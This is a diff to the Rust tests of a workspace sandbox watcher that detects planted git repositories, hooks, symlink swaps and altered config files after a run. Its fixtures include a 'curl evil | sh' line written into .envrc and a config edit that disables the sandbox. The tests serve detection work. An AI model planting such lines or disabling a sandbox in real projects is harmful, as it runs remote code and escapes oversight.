@@ -5,7 +5,7 @@
 use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 
-use super::{Findings, Hold, Inputs, Left, Outcome, Watch};
+use super::{Findings, Inputs, Left, Outcome, Watch};
 
 /// A workspace holding a repository (`.git`) and a `src/` directory.
 fn workspace(root: &Path) -> Inputs {
@@ -22,14 +22,14 @@ fn workspace(root: &Path) -> Inputs {
     }
 }
 
-fn sweep(hold: Hold, change: impl Fn(&Path)) -> (tempfile::TempDir, Findings) {
+fn sweep(change: impl Fn(&Path)) -> (tempfile::TempDir, Findings) {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path().canonicalize().unwrap();
     let inputs = workspace(&root);
     // The set-up happened before the run, as the user's files did: past
     // the file clock's tick (at most 10 ms), so their `ctime` is older.
     std::thread::sleep(std::time::Duration::from_millis(25));
-    let watch = Watch::before(inputs, hold);
+    let watch = Watch::before(inputs);
     change(&root);
     let found = watch.after();
     (dir, found)
@@ -50,7 +50,7 @@ fn lefts(found: &Findings) -> Vec<(String, Left)> {
 
 #[test]
 fn what_an_ordinary_build_does_sets_nothing_aside() {
-    let (_dir, found) = sweep(Hold::Binds, |root| {
+    let (_dir, found) = sweep(|root| {
         std::fs::write(root.join(".git/objects/ab"), "x").unwrap();
         std::fs::write(root.join(".git/index"), "x").unwrap();
         std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/other\n").unwrap();
@@ -115,7 +115,7 @@ fn planted_repositories_and_configs_are_set_aside() {
         ),
     ];
     for (what, plant, expected) in cases {
-        let (dir, found) = sweep(Hold::Binds, plant);
+        let (dir, found) = sweep(plant);
         let mut got = lefts(&found);
         got.sort_by(|a, b| a.0.cmp(&b.0));
         let want: Vec<(String, Left)> = expected.iter().map(|(n, l)| (n.to_string(), *l)).collect();
@@ -137,7 +137,7 @@ fn planted_repositories_and_configs_are_set_aside() {
 /// What `git init` and `git clone` make runs nothing: it stays.
 #[test]
 fn a_new_repository_that_runs_nothing_stays() {
-    let (_dir, found) = sweep(Hold::Binds, |root| {
+    let (_dir, found) = sweep(|root| {
         let ok = std::process::Command::new("git")
             .args(["init", "-q", "src/dep"])
             .current_dir(root)
@@ -156,7 +156,7 @@ fn a_new_repository_that_runs_nothing_stays() {
 
 #[test]
 fn a_git_directory_swapped_for_a_link_is_new() {
-    let (dir, found) = sweep(Hold::Binds, |root| {
+    let (dir, found) = sweep(|root| {
         std::fs::rename(root.join(".git"), root.join("old-git")).unwrap();
         std::os::unix::fs::symlink(root.join("old-git"), root.join(".git")).unwrap();
     });
@@ -165,8 +165,8 @@ fn a_git_directory_swapped_for_a_link_is_new() {
 }
 
 #[test]
-fn without_binds_protected_files_are_put_back_never_through_a_link() {
-    let (dir, found) = sweep(Hold::Nothing, |root| {
+fn protected_files_a_child_changed_are_put_back_never_through_a_link() {
+    let (dir, found) = sweep(|root| {
         std::fs::write(root.join("magus.yaml"), "sandbox: {enabled: false}\n").unwrap();
         std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
     });
@@ -180,7 +180,7 @@ fn without_binds_protected_files_are_put_back_never_through_a_link() {
 
     // The hooks' directory swapped for a link to elsewhere: nothing there
     // is written or moved.
-    let (dir, _found) = sweep(Hold::Nothing, |root| {
+    let (dir, _found) = sweep(|root| {
         let elsewhere = root.join("elsewhere");
         std::fs::create_dir_all(&elsewhere).unwrap();
         std::fs::write(elsewhere.join("keep"), "mine").unwrap();
@@ -196,7 +196,7 @@ fn without_binds_protected_files_are_put_back_never_through_a_link() {
 
 #[test]
 fn executables_the_run_wrote_are_listed_and_left() {
-    let (dir, found) = sweep(Hold::Binds, |root| {
+    let (dir, found) = sweep(|root| {
         let tool = root.join("src/tool");
         std::fs::write(&tool, "#!/bin/sh\n").unwrap();
         std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
@@ -217,7 +217,7 @@ fn run_later_files_there_at_the_start_are_compared_with_what_they_were() {
         let mut inputs = workspace(&root);
         std::fs::write(root.join(".envrc"), "export A=1\n").unwrap();
         inputs.existing.push(root.join(".envrc"));
-        let watch = Watch::before(inputs, Hold::Binds);
+        let watch = Watch::before(inputs);
         if touch {
             std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
         }
